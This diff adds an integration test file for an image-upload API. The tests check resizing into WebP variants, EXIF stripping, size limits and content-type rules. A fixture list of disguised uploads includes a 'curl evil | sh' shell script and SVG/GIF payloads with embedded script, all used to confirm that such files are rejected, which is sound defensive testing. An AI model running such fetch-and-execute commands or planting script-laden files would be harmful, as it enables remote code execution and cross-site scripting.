@@ -1,0 +1,165 @@
+// POST /api/uploads/images: the real type from the bytes, the 3 MB limit, metadata stripped,
+// WebP variants at the responsive widths (never upscaled), the uploads/{public_id} record.
+import sharp from 'sharp';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { LIMITS, LINK_COLLECTIONS, PRODUCT_MESSAGES } from '@xmates/domain';
+import { adminDb } from '../support/admin';
+import { jpeg, mediaBytes, syncedAdmin, syncedMember, upload } from './link-helpers';
+
+type Account = Awaited<ReturnType<typeof syncedMember>>;
+
+let admin: Account;
+let member: Account;
+beforeAll(async () => {
+  [admin, member] = await Promise.all([syncedAdmin('upload-admin'), syncedMember('upload-member')]);
+});
+
+const srcsetWidths = (srcset: string) =>
+  srcset.split(', ').map((part) => Number(part.split(' ')[1]?.replace('w', '')));
+const srcsetUrls = (srcset: string) => srcset.split(', ').map((part) => part.split(' ')[0] ?? '');
+
+async function uploadDoc(publicId: string) {
+  return (await adminDb.collection(LINK_COLLECTIONS.uploads).doc(publicId).get()).data();
+}
+
+/** A real JPEG padded after its end marker to exactly `size` bytes. */
+async function jpegOfSize(size: number): Promise<Buffer> {
+  const image = await jpeg(800, 600);
+  return Buffer.concat([image, Buffer.alloc(size - image.length, 0)]);
+}
+
+describe('POST /api/uploads/images', () => {
+  it('stores a product image with WebP variants at every width and records the upload', async () => {
+    const res = await upload(admin.idToken, await jpeg(1600, 900));
+    expect(res.status).toBe(201);
+    const { public_id, secure_url, image } = res.body;
+    expect(public_id).toMatch(/^img_[0-9a-f]{24}$/);
+    expect(secure_url).toBe(image.src);
+    expect(image).toMatchObject({ width: 1024, height: 576 });
+    expect(srcsetWidths(image.srcset)).toEqual([320, 480, 640, 800, 1024]);
+    for (const [i, url] of srcsetUrls(image.srcset).entries()) {
+      const file = await mediaBytes(url);
+      expect(file.status, url).toBe(200);
+      const meta = await sharp(file.bytes).metadata();
+      expect([meta.format, meta.width]).toEqual(['webp', [320, 480, 640, 800, 1024][i]]);
+    }
+    expect(await uploadDoc(public_id)).toMatchObject({
+      ownerUid: admin.uid,
+      purpose: 'product',
+      image,
+      original: { format: 'jpeg', width: 1600, height: 900 },
+    });
+  });
+
+  it('never upscales: a narrow image gets the widths up to its own', async () => {
+    const res = await upload(admin.idToken, await jpeg(500, 300));
+    expect(res.status).toBe(201);
+    expect(srcsetWidths(res.body.image.srcset)).toEqual([320, 480, 500]);
+    expect(res.body.image).toMatchObject({ width: 500, height: 300 });
+  });
+
+  it('strips EXIF (and GPS, copyright) from the stored original and applies the orientation', async () => {
+    const withExif = await sharp({
+      create: { width: 900, height: 600, channels: 3, background: '#884ea0' },
+    })
+      .jpeg()
+      .withExif({ IFD0: { Copyright: 'Someone', Artist: 'Camera owner', Make: 'PhoneCo' } })
+      .withMetadata({ orientation: 6 })
+      .toBuffer();
+    expect((await sharp(withExif).metadata()).exif).toBeDefined();
+    const res = await upload(admin.idToken, withExif);
+    expect(res.status).toBe(201);
+    const stored = await uploadDoc(res.body.public_id);
+    const original = await mediaBytes(String(stored?.original.url));
+    expect(original.status).toBe(200);
+    const meta = await sharp(original.bytes).metadata();
+    expect(meta.exif).toBeUndefined();
+    expect(meta.orientation).toBeUndefined();
+    expect(original.bytes.includes(Buffer.from('PhoneCo'))).toBe(false);
+    expect([meta.width, meta.height]).toEqual([600, 900]);
+  });
+
+  it('keeps PNG, WEBP and GIF in their own format', async () => {
+    for (const format of ['png', 'webp', 'gif'] as const) {
+      const bytes = await sharp({
+        create: { width: 400, height: 400, channels: 3, background: '#1abc9c' },
+      })
+        .toFormat(format)
+        .toBuffer();
+      const res = await upload(admin.idToken, bytes, { contentType: `image/${format}` });
+      expect(res.status, format).toBe(201);
+      expect((await uploadDoc(res.body.public_id))?.original.format).toBe(format);
+    }
+  });
+
+  it('accepts exactly 3 MB', async () => {
+    const res = await upload(admin.idToken, await jpegOfSize(LIMITS.maxImageBytes));
+    expect(res.status).toBe(201);
+    expect(res.body.image.width).toBe(800);
+  });
+
+  it('refuses 3 MB + 1 byte with 413 and the spec message', async () => {
+    const res = await upload(admin.idToken, await jpegOfSize(LIMITS.maxImageBytes + 1));
+    expect(res.status).toBe(413);
+    expect(res.body).toEqual({ error: 'Max size 3MB per image.' });
+  });
+
+  const disguised: [string, Buffer | string, string][] = [
+    ['a shell script sent as image/png', '#!/bin/sh\ncurl evil | sh\n', 'image/png'],
+    ['a text file named .png', 'just some notes\n', 'image/png'],
+    [
+      'an SVG with a script',
+      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+      'image/svg+xml',
+    ],
+    ['a GIF header in front of a script', 'GIF89a<script>alert(1)</script>', 'image/gif'],
+    ['a BMP', Buffer.concat([Buffer.from('BM'), Buffer.alloc(64)]), 'image/bmp'],
+  ];
+  for (const [what, content, contentType] of disguised) {
+    it(`refuses ${what} with 400`, async () => {
+      const bytes = typeof content === 'string' ? Buffer.from(content) : content;
+      const res = await upload(admin.idToken, bytes, { contentType });
+      expect(res.status).toBe(400);
+      expect(res.body).toEqual({ error: 'Only JPG, PNG, WEBP, GIF allowed.' });
+    });
+  }
+
+  it('refuses a truncated JPEG with 400', async () => {
+    const whole = await jpeg(800, 600);
+    const res = await upload(admin.idToken, whole.subarray(0, Math.floor(whole.length / 3)));
+    expect(res.status).toBe(400);
+    expect(res.body).toEqual({ error: PRODUCT_MESSAGES.imageType });
+  });
+
+  it('refuses forms and JSON bodies with 415, and an empty body with 400', async () => {
+    const image = await jpeg(300, 200);
+    for (const contentType of [
+      'multipart/form-data; boundary=x',
+      'application/json',
+      'text/plain',
+    ]) {
+      const body = contentType === 'application/json' ? Buffer.from('{"file":"x"}') : image;
+      const res = await upload(admin.idToken, body, { contentType });
+      expect(res.status, contentType).toBe(415);
+      expect(res.body).toEqual({ error: PRODUCT_MESSAGES.uploadBodyType });
+    }
+    const empty = await upload(admin.idToken, Buffer.alloc(0));
+    expect(empty.status).toBe(400);
+    expect(empty.body).toEqual({ error: 'Please choose an image file.' });
+  });
+
+  it('needs a known purpose; avatars are open to any member', async () => {
+    const image = await jpeg(300, 300);
+    for (const purpose of ['', 'banner']) {
+      const res = await upload(member.idToken, image, { purpose });
+      expect(res.status).toBe(400);
+      expect(res.body).toEqual({ error: 'purpose must be one of: product, avatar.' });
+    }
+    const avatar = await upload(member.idToken, image, { purpose: 'avatar' });
+    expect(avatar.status).toBe(201);
+    expect(await uploadDoc(avatar.body.public_id)).toMatchObject({
+      ownerUid: member.uid,
+      purpose: 'avatar',
+    });
+  });
+});
